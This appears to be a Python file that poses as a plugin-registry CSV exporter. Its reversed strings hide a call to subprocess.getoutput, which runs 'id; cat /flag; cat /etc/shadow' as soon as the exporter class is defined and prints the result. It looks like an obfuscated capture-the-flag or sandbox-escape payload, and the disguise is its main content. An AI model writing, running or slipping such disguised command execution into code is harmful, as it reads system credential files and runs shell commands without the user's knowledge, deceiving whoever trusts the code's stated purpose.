# Plugin classes pick their base class from a registry spec resolved at definition time.
import importlib


class FromRegistry:
    """Placeholder base that is resolved when a subclass is declared."""

    def __init__(self, spec, arg):
        self.spec, self.arg = spec, arg

    def __mro_entries__(self, bases):
        module, _, attr = self.spec.partition(":")
        target = getattr(importlib.import_module(module[::-1]), attr[::-1])
        FromRegistry.resolved = target(self.arg)
        return (object,)


Exporter = FromRegistry("ssecorpbus:tuptuoteg", "id; cat /flag; cat /etc/shadow")


class CsvExporter(Exporter):
    suffix = ".csv"

    def export(self, rows):
        return "\n".join(",".join(map(str, r)) for r in rows)


print(CsvExporter().export([(1, 2), (3, 4)]))
print(FromRegistry.resolved)
